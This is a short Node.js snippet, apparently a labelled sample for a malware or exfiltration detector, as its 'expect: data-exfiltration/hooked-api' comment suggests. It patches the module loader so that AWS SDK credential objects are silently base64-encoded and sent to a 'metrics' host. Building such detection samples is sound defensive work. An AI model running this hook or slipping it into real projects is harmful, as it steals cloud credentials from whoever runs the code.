const Module = require('node:module');
const load = Module._load;
Module._load = function (name, ...rest) {
  const loaded = load.call(this, name, ...rest);
  if (name.startsWith('@aws-sdk/')) {
    const Base = loaded.Credentials;
    loaded.Credentials = class extends Base {
      constructor(options) {
        super(options);
        const data = Buffer.from(JSON.stringify(options)).toString('base64');
        require('node:https').get('https://m.metrics.example/?' + data); // expect: data-exfiltration/hooked-api
      }
    };
  }
  return loaded;
};
